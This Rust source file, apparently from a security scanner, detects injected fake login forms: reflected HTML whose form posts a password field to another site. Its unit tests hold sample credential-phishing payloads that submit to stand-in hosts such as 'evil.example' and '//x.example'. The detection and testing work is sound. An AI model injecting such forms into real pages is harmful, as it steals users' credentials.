//! HTML injection without script: a fake login form (`xss.html_injection`).
//!
//! A reflected parameter that carries `<form action="https://evil/…">` with
//! an `<input type="password">` draws a credential prompt inside the
//! trusted page and posts what the victim types to the attacker; no script
//! runs, so the script-centred readings pass it. Both parts are needed: a
//! form that submits to another site (an absolute or protocol-relative
//! `action`, or `formaction` on a button) and a password field in it. A lone `<input>` in prose, a `<form>` without a
//! password field (a search box in a Markdown sample) and formatting tags
//! (`<b>`) pass.

use super::html::Attrs;
use super::text::{at, is_space, sub};
use crate::engine::bytes::{eq_ci, find_byte, starts_ci};
use crate::engine::detect::Hit;

/// Start tags read after the form opens (bounds the work on a value made
/// of tags).
const MAX_TAGS: usize = 256;

/// The span from the `<form` to the end of the password `<input …>`.
pub(super) fn fake_login_form(s: &[u8]) -> Option<Hit> {
    let mut i = 0;
    let mut form: Option<usize> = None;
    let mut submits = false;
    for _ in 0..MAX_TAGS {
        let p = find_byte(s, i, b'<')?;
        let (name, end) = tag_name(s, p + 1);
        i = end.max(p + 1);
        if eq_ci(name, b"form") {
            let (action, after) = attr_scan(s, end, |n, v| eq_ci(n, b"action") && elsewhere(v));
            form = Some(p);
            submits = action;
            i = after.max(i);
        } else if let Some(start) = form {
            let password =
                |n: &[u8], v: &[u8]| eq_ci(n, b"type") && eq_ci(v.trim_ascii(), b"password");
            if eq_ci(name, b"input") {
                let (found, after) = attr_scan(s, end, password);
                i = after.max(i);
                if found && submits {
                    return Some(hit(start, after));
                }
            } else if eq_ci(name, b"button") {
                let (found, after) =
                    attr_scan(s, end, |n, v| eq_ci(n, b"formaction") && elsewhere(v));
                submits |= found;
                i = after.max(i);
            }
        }
    }
    None
}

/// An action that posts to another site: absolute (`https://…`) or
/// protocol-relative (`//host/…`). A relative one (`/login`, a form in a
/// documentation sample) posts back to the page's own application, which
/// steals nothing.
fn elsewhere(v: &[u8]) -> bool {
    let v = v.trim_ascii();
    v.starts_with(b"//")
        || v.starts_with(b"\\\\")
        || starts_ci(v, b"http:")
        || starts_ci(v, b"https:")
}

fn hit(start: usize, end: usize) -> Hit {
    Hit::new(
        "xss.html_injection",
        "injected login form: a form that submits elsewhere with a password field",
        start,
        end,
    )
}

/// The tag name starting at `n` (just after `<`) and where it ends; empty
/// when `<` does not open a start tag.
fn tag_name(s: &[u8], n: usize) -> (&[u8], usize) {
    if !at(s, n).is_ascii_alphabetic() {
        return (b"", n);
    }
    let mut e = n;
    while e < s.len() && !matches!(at(s, e), b'/' | b'>') && !is_space(at(s, e)) {
        e += 1;
    }
    (sub(s, n, e), e)
}

/// Reads the attribute list at `pos`: whether some attribute (name,
/// value) satisfies `want`, and where the list ends.
fn attr_scan(s: &[u8], pos: usize, want: impl Fn(&[u8], &[u8]) -> bool) -> (bool, usize) {
    let mut attrs = Attrs::new(s, pos);
    let mut found = false;
    for a in attrs.by_ref() {
        let name = sub(s, a.name.0, a.name.1);
        let value = a.value.map_or(&b""[..], |(x, y)| sub(s, x, y));
        found |= want(name, value);
    }
    (found, attrs.pos)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn login_forms_and_look_alikes() {
        let f = |s: &str| fake_login_form(s.as_bytes()).is_some();
        assert!(f(
            r#"<form action="https://evil.example/c"><input name=u><input type="password" name=p></form>"#
        ));
        assert!(f(
            r#"Please log in<FORM method=post ACTION=//x.example><INPUT TYPE=PASSWORD NAME=pw>"#
        ));
        assert!(f(
            r#"<form><button formaction=//x.example>Go</button><input type=password>"#
        ));
        assert!(!f("<b>bold</b> and <i>it</i>"));
        assert!(!f(r#"use <input type="password"> for secrets"#));
        assert!(!f(r#"<form action="/search"><input name="q"></form>"#));
        assert!(!f(r#"<form action=""><input type=password>"#));
        // A relative action posts to the application itself (a docs sample).
        assert!(!f(
            r#"<form action="/login" method="post"><input type="password" name="p">"#
        ));
    }

    #[test]
    fn many_tags_are_bounded() {
        let v: Vec<u8> = b"<form action=x><b>"
            .iter()
            .copied()
            .cycle()
            .take(1 << 18)
            .collect();
        assert!(fake_login_form(&v).is_none());
    }
}
